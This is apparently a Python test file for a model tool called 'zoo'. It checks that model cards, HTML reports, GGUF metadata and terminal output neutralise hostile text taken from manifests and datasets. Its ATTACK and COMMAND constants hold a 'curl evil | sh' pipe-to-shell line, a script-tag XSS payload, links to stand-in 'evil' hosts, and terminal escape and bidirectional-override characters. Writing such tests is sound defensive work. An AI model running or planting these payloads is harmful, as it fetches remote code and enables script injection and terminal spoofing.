"""Pages about models and data of strangers: their text is text, in every page that zoo writes."""

import csv
import json
import re
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import gguf
import msgspec
import pytest
import yaml
from markdown_it import MarkdownIt
from markdown_it.token import Token

from tests import warm
from tests.faults import newer
from tests.once import written_once
from zoo.checkpoint import MANIFEST, SourceRecord, encode_manifest, load_checkpoint
from zoo.checkpoint.records import EvaluationRecord
from zoo.finetuning.runs import MODEL
from zoo.io.digests.files import FileDigest

ATTACK = (
    "x\n\n# heading\n\n```sh\ncurl evil | sh\n```\n<script>alert(1)</script> [l](https://evil) "
    "![i](https://evil/i.png) `c` | **b** \x1b[31m \x1b]8;;https://evil\x07 \u202e https://evil"
)
COMMAND = "curl evil | sh"
LABELS = ("no\x1b[1m<b>|`", "yes\n# yes ![i](https://e)")
TABLE = "t <b>|`x` [l](u)\x1b[1m.jsonl"
NO_DIGEST = FileDigest(bytes=1, blake3="0" * 64)
HEADINGS = {"Usage", "Evaluation", "Training", "Origin", "Graphs", "Model"}
DRAWN = {"svg", "style", "title", "rect", "text", "path", "circle", "polyline", "g"}
MARKDOWN = MarkdownIt("commonmark").enable("table")
CODE = re.compile(
    r"\$ (zoo run|zoo info|zoo finetune|llama-)|from |import |model = |model\.|print\(|tokenizer|"
    r"inputs = |embeddings = |const model|console\.log|tokens = |options = |    \"|\)|$|"
    r"folder = |file = |session = |encoder = |texts = |encodings = |inputs\[|logits = |ids = |"
    r"lengths = |probabilities |labels = |for row in probabilities:$|    print\(labels\["
)


def attacked(model: Path) -> None:
    """Write the attack into the texts of a manifest."""
    training: dict[str, Any] = dict(load_checkpoint(model).manifest.training or {})
    training |= {
        "command": f"{COMMAND}\n{ATTACK}",
        "objective": ATTACK,
        "settings": {ATTACK: [ATTACK, {"a": ATTACK}], "learning_rate": ATTACK},
        "init_from": {"models": {"model": {"source": {"repo": ATTACK}, "licence": ATTACK}}},
        "data": {"train": {ATTACK: {}}, "rows": {ATTACK: 1}, "eval": {ATTACK: {}}},
    }
    record = EvaluationRecord(
        task=ATTACK,
        data={ATTACK: NO_DIGEST},
        metrics={ATTACK: 0.5, "accuracy": 0.5},
        settings={ATTACK: ATTACK},
        backend=ATTACK,
        dtype=ATTACK,
        intervals={ATTACK: (0.1, 0.9)},
    )
    source = SourceRecord(reference=ATTACK, repo=f"org/{ATTACK}", revision=ATTACK, format=ATTACK)
    manifest = msgspec.structs.replace(
        load_checkpoint(model).manifest,
        source=source,
        licence=ATTACK,
        training=training,
        evaluations=[record],
    )
    (model / MANIFEST).write_bytes(encode_manifest(manifest))


@pytest.fixture
def scene() -> Path:
    return written_once("hostile-pages", _write)


def _write(folder: Path) -> None:
    rows = []
    for number in range(40):
        text = f"{number} {ATTACK} {'a b c' if number % 2 else 'd e f'}"
        rows.append({"text": text, "label": LABELS[number % 2]})
    (folder / TABLE).write_text("".join(f"{json.dumps(row)}\n" for row in rows))
    table = newer.finetune(folder)
    table[table.index("--train") + 1] = folder / TABLE
    done = warm.zoo(*table, "--eval", folder / TABLE, "-o", folder / "run")
    assert done.returncode == 0, done.stderr
    (folder / "run" / MODEL).rename(folder / "model")
    attacked(folder / "model")
    done = warm.zoo("convert", folder / "model", "--head", "none", "-o", folder / "encoder")
    assert done.returncode == 0, done.stderr
    attacked(folder / "encoder")


CARDS: dict[str, tuple[str, ...]] = {
    "hub": ("convert", "model", "--to", "hub"),
    "hub of an encoder": ("convert", "encoder", "--to", "hub"),
    "onnx": ("export", "model"),
    "gguf": ("export", "model", "--to", "gguf", "--unverified"),
    "ctranslate2": ("export", "encoder", "--to", "ctranslate2", "--unverified"),
    "static": ("export", "encoder", "--to", "static", "--max-drop", "1"),
    "openvino": ("export", "model", "--to", "openvino", "--unverified"),
}


@pytest.mark.by_default("hub")
@pytest.mark.parametrize(
    "name", [pytest.param(n, marks=pytest.mark.long if n == "openvino" else ()) for n in CARDS]
)
def test_a_model_card_has_no_structure_of_the_model(scene: Path, tmp_path: Path, name: str) -> None:
    verb, model, *options = CARDS[name]
    done = warm.zoo(verb, scene / model, *options, "-o", tmp_path / "out")
    assert done.returncode == 0, done.stderr
    text = (tmp_path / "out" / "README.md").read_text("utf-8")
    assert [line for line in text.splitlines() if not line.isprintable()] == []
    _, front, body = text.split("---\n", 2)
    assert "evil" not in str(yaml.safe_load(front).get("base_model"))
    assert "license" not in yaml.safe_load(front)
    tokens = MARKDOWN.parse(body)
    inline = [child for token in tokens for child in token.children or []]
    assert "heading" in body, "the card has text of the manifest"
    kinds = {token.type for token in [*tokens, *inline]}
    assert kinds.isdisjoint({"html_block", "html_inline", "image", "link_open", "code_block"})
    headings = [tokens[k + 1].content for k, t in enumerate(tokens) if t.type == "heading_open"]
    assert set(headings[1:]) <= HEADINGS and len(headings) == len(set(headings))
    for block in [token for token in tokens if token.type == "fence"]:
        assert [line for line in block.content.splitlines() if not CODE.match(line)] == []
        assert "evil" not in block.content
    assert_tables_are_whole(tokens)


def test_the_metadata_of_a_gguf_file(scene: Path, tmp_path: Path) -> None:
    """Name and licence are text, and labels are values that are read back."""
    export = ("export", scene / "model", "--to", "gguf", "--unverified", "-o", tmp_path / "out")
    done = warm.zoo(*export)
    assert done.returncode == 0, done.stderr
    fields = gguf.GGUFReader(tmp_path / "out" / "model.gguf").fields
    for name in ("general.name", "general.license"):
        assert "evil" in fields[name].contents() and fields[name].contents().isprintable()
    labels = next(field for name, field in fields.items() if name.endswith("output_labels"))
    assert tuple(labels.contents()) == LABELS


def assert_tables_are_whole(tokens: list[Token]) -> None:
    """Check that each row of a table has the cells of its header."""
    columns, cells = 0, 0
    for token in tokens:
        if token.type == "table_open":
            columns = 0
        columns += token.type == "th_open"
        if token.type == "tr_open":
            cells = 0
        cells += token.type in ("td_open", "th_open")
        assert token.type != "tr_close" or cells == columns


class Page(HTMLParser):
    """Collects elements, attributes and text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements, self.attributes, self.text = list[str](), list[str](), ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(tag)
        self.attributes += [name for name, _ in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data


def check_page(text: str, scripts: int) -> Page:
    page = Page(text)
    assert page.elements.count("script") == scripts and page.elements.count("h1") == 1
    assert {"a", "img", "b", "iframe"}.isdisjoint(page.elements)
    assert not [name for name in page.attributes if name.startswith("on")]
    shown = text.replace("\n", "").replace("\t", "")
    assert not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", shown)
    return page


def test_the_report_of_a_run(scene: Path) -> None:
    page = check_page((scene / "run/report.html").read_text("utf-8"), scripts=0)
    assert "<script>alert(1)</script>" in page.text and "\\x1b[31m" in page.text


def test_the_report_and_the_predictions_of_an_evaluation(scene: Path, tmp_path: Path) -> None:
    report, rows, figures = tmp_path / "r.html", tmp_path / "r.csv", tmp_path / "figures"
    files = ["--report", report, "--predictions", rows, "--figures", figures]
    words = ["eval", scene / "model", *newer.TASK, "--eval", scene / TABLE, "--no-record"]
    done = warm.zoo(*words, *files)
    assert done.returncode == 0, done.stderr
    assert_printable(done.stdout, done.stderr)
    page = check_page(report.read_text("utf-8"), scripts=0)
    assert "no\\x1b[1m<b>|`" in page.text
    for figure in figures.iterdir():
        tree = ElementTree.parse(figure)
        names = {element.tag.rpartition("}")[2] for element in tree.iter()}
        assert names <= DRAWN
    with rows.open(newline="") as file:
        table = list(csv.DictReader(file))
    assert len(table) == 40 and {row["label"] for row in table} == set(LABELS)


def test_the_page_of_a_look(scene: Path, tmp_path: Path) -> None:
    done = warm.zoo("look", scene / "model", ATTACK, "-o", tmp_path / "page.html")
    assert done.returncode == 0, done.stderr
    page = check_page((tmp_path / "page.html").read_text("utf-8"), scripts=2)
    data = json.loads(re.search(r"\{\"compared.*\}", page.text)[0])  # type: ignore[index]
    assert "<script>alert(1)</script>" in data["texts"][0]["text"]
    assert "\x1b" not in json.dumps(data, ensure_ascii=False)


def assert_printable(*texts: str) -> None:
    for text in texts:
        lines = text.replace("\t", "").split("\n")
        assert [line for line in lines if not line.isprintable()] == []


TERMINAL: dict[str, Callable[[Path], list[object]]] = {
    "info": lambda s: ["info", s / "model"],
    "info --verbose": lambda s: ["info", s / "model", "--verbose"],
    "info --json": lambda s: ["info", s / "model", "--json"],
    "info of a run": lambda s: ["info", s / "run"],
    "run": lambda s: ["run", "classify", s / "model", ATTACK],
    "tokenize": lambda s: ["tokenize", s / "model", ATTACK],
    "verify": lambda s: ["verify", s / "encoder"],
    "compare": lambda s: ["compare", s / "run"],
    "a file that is missing": lambda s: ["run", "classify", s / "model", "--input", ATTACK],
    "a model that is missing": lambda s: ["info", ATTACK],
    "an option": lambda s: ["info", f"--{ATTACK}"],
    "a command": lambda s: [ATTACK],
}


@pytest.mark.by_default("info", "run", "verify", "a file that is missing", "a command")
@pytest.mark.parametrize("name", TERMINAL)
def test_a_terminal_gets_no_control_characters(scene: Path, name: str) -> None:
    done = warm.zoo(*TERMINAL[name](scene))
    assert done.returncode in (0, 2, 4), done.stderr
    assert done.stdout or done.stderr
    assert_printable(done.stdout, done.stderr)
